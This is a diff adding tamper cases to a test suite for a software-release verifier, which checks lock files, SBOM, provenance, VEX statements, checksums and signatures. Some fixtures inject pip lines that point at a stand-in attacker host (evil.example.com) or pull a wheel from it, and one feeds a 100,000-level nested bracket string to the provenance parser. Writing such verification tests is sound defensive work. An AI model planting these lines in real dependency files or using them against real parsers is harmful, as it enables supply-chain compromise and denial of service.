@@ -121,6 +121,48 @@ CHANGES: Final[dict[str, tuple[Change, str]]] = {
         replaced_in_provenance("urn:gatehouse:source:ops/requirements-build.lock", "file:///home/ann/build.lock"),
         f"{NAMES.provenance}: it does not name ops/requirements-build.lock",
     ),
+    "an option of pip": (
+        replaced(LOCK, "h11==", "--extra-index-url https://evil.example.com/\nh11=="),
+        f"{NAMES.sbom}: requirements.lock has a line that is no package with its version: --extra-index-url",
+    ),
+    "a dependency by its address": (
+        replaced(LOCK, "h11==", "evil @ https://evil.example.com/evil.whl --hash=sha256:" + "1" * 64 + "\nh11=="),
+        f"{NAMES.sbom}: requirements.lock has a line that is no package with its version: evil @",
+    ),
+    "an indented dependency": (
+        replaced(LOCK, "h11==", "  Evil==1 --hash=sha256:" + "1" * 64 + "\nh11=="),
+        f"{NAMES.sbom}: requirements.lock has a line that is no package with its version:   Evil==1",
+    ),
+    "the URL of a package": (
+        replaced(NAMES.sbom, "pkg:pypi/aiofiles@", "pkg:pypi/evil@"),
+        f"{NAMES.sbom}: the package URL of aiofiles is another one's",
+    ),
+    "a name twice": (
+        replaced_in_provenance("{", '{"subject": [],'),
+        f"{NAMES.provenance}: it cannot be read as what it should be (an object has one name twice)",
+    ),
+    "a depth": (replaced_in_provenance("{", "[" * 100_000), f"{NAMES.provenance}: it cannot be read"),
+    "a subject twice": (
+        replaced_in_provenance('"subject": [', '"subject": [{"name": "requirements.lock", "digest": {"sha256": "1"}},'),
+        f"{NAMES.provenance}: it says something that ops/release does not write",
+    ),
+    "a person who made it": (
+        replaced_in_provenance('"runDetails": {', '"runDetails": {"metadata": {"invocationId": "ann"},'),
+        f"{NAMES.provenance}: it says something that ops/release does not write",
+    ),
+    "a base without its dependency": (
+        replaced_in_provenance('"version":', f'"base": "python:3.13.1-slim@sha256:{"1" * 64}", "version":'),
+        f"{NAMES.provenance}: it says something that ops/release does not write",
+    ),
+    "a version of zlib": (replaced_in_provenance('"zlib": "', '"zlib": " '), f"{NAMES.provenance}: it cannot be read"),
+    "the name of the statements": (
+        replaced(NAMES.vex, f"urn:gatehouse:vex:{VERSION}", "urn:gatehouse:vex:1.0.0"),
+        f"{NAMES.vex}: its @id is not the one of pkg:pypi/gatehouse@{VERSION}",
+    ),
+    "the ends of the lines of the checksums": (
+        lambda release: (release.folder / SUMS).write_bytes(release.read(SUMS).replace("\n", "\r\n").encode()),
+        f"{SUMS}: its lines are not written as ops/release writes them",
+    ),
     "no commit": (replaced_in_provenance(COMMIT, "main"), f"{NAMES.provenance}: it cannot be read"),
 }
 
@@ -165,6 +207,10 @@ def test_only_the_signature_of_this_version_by_this_key_is_accepted(
     assert verifying.verify(release.folder, public_key=key) == verifying.verify(release.folder, public_key=str(public))
     refusals = [refusal(release, str(foreign)), refusal(release, "no key")]
     without_key = refusal(release)
+    # A file whose name is a key, with another key in it.
+    shutil.copy(public, tmp_path / (named := foreign.read_text().splitlines()[1].replace("/", "+")))
+    monkeypatch.chdir(tmp_path)
+    refusals.append(refusal(release, named))
     release.replace(SIGNATURE, f"gatehouse {VERSION}", "gatehouse 9.9.9")
     refusals.append(refusal(release, key))
     signing.sign(release.folder, secret, signing.comment(VERSION, COMMIT))
